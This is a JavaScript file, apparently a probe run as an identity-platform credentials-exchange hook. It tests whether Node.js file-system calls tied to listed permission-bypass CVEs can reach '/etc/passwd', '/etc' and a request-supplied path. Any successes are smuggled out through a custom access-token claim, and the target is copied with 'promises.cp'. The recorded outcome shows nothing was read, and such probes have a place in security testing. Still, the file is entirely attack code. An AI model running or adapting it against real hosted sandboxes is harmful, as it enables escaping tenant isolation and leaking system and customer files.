// outcome: completed; claim read=[]; beside served
// CVE-2023-30583 (`openAsBlob`), CVE-2023-30582 (`watchFile`), CVE-2023-32005 (`statfs`), CVE-2024-22018 (`lstat`), CVE-2026-21715 (`realpathSync.native`).
const fs = require('node:fs')
const { promisify } = require('node:util')
const ways = {
  openAsBlob: async (path) => (await (await fs.openAsBlob(path)).slice(0, 4).text()).length > 0,
  'openAsBlob, streamed': async (path) => (await (await fs.openAsBlob(path)).stream().getReader().read()).value,
  watchFile: (path) =>
    new Promise((resolve) => {
      const watcher = fs.watchFile(path, { interval: 5 }, (now) => resolve(now.size > 0))
      watcher.on('error', () => resolve(false))
      setTimeout(() => {
        fs.unwatchFile(path)
        resolve(false)
      }, 30)
    }),
  watch: (path) => fs.watch(path),
  'promises.watch': async (path) => (await fs.promises.watch(path, { signal: AbortSignal.timeout(10) }).next()) ?? true,
  statfs: (path) => promisify(fs.statfs)(path),
  statfsSync: (path) => fs.statfsSync(path, { bigint: true }),
  'promises.statfs': (path) => fs.promises.statfs(path),
  lstat: (path) => promisify(fs.lstat)(path),
  'lstatSync, quiet': (path) => fs.lstatSync(path, { throwIfNoEntry: false }),
  'statSync, quiet': (path) => fs.statSync(path, { throwIfNoEntry: false }),
  'promises.lstat': (path) => fs.promises.lstat(path),
  'realpathSync.native': (path) => fs.realpathSync.native(path),
  'realpath.native': (path) => promisify(fs.realpath.native)(path),
  exists: (path) => promisify(fs.exists)(path),
  'promises.access': async (path) => (await fs.promises.access(path)) ?? true,
  'promises.glob': async (path) => (await fs.promises.glob(`${path}*`).next()).value,
  'promises.opendir': (path) => fs.promises.opendir(path),
  'promises.cp': async (path) => (await fs.promises.cp(path, `${__dirname}/copy`, { filter: () => true })) ?? true,
}
exports.onExecuteCredentialsExchange = async (event, api) => {
  const read = []
  for (const path of ['/etc/passwd', '/etc', `${event.request.body.data}/config.db`]) {
    for (const [name, way] of Object.entries(ways)) {
      try {
        if (await way(path)) read.push(`${name} ${path}`)
      } catch {
        // Refused.
      }
    }
  }
  api.accessToken.setCustomClaim('read', read)
}
